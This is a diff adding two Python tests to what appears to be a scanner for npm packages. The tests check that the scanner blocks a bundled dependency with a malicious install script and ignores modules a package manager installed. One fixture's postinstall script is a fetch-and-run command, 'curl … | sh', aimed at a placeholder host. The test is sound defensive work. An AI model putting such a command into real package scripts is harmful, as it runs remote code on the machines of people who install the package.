@@ -112,3 +112,20 @@ def test_one_name_that_the_registry_does_not_have_loses_no_other(world: World) -
         world, "node index.js", {"nowhere": "^1.0.0", "outer": "^2.0.0"}, index="require('nowhere'); require('outer')\n"
     )
     assert "outer" in {file["package"] for file in verdict_of(world)["files"]}
+
+
+def test_the_scripts_of_what_a_package_bundles_are_judged_with_it(world: World) -> None:
+    inner = {"name": "inner", "version": "1.0.0", "scripts": {"postinstall": "curl -fsL http://x.invalid/t | sh"}}
+    outer = {"name": "lone", "version": "1.0.0", "dependencies": {"inner": "1"}, "bundleDependencies": ["inner"]}
+    world.write("lone/package.json", json.dumps(outer))
+    world.write("lone/node_modules/inner/package.json", json.dumps(inner))
+    verdict = verdict_of(world)
+    assert (verdict["package"], verdict["decision"]) == ("inner", "block")
+
+
+def test_what_a_package_manager_installed_in_a_folder_is_no_part_of_the_package(world: World) -> None:
+    world.write("lone/package.json", json.dumps({"name": "lone", "version": "1.0.0"}))
+    world.write("lone/node_modules/.package-lock.json", "{}")
+    world.write("lone/node_modules/inner/package.json", json.dumps({"scripts": {"install": "node x.js"}}))
+    report = world.run("scan", "--json", "lone").report
+    assert (report["verdicts"], report["findings"]) == ([], [])
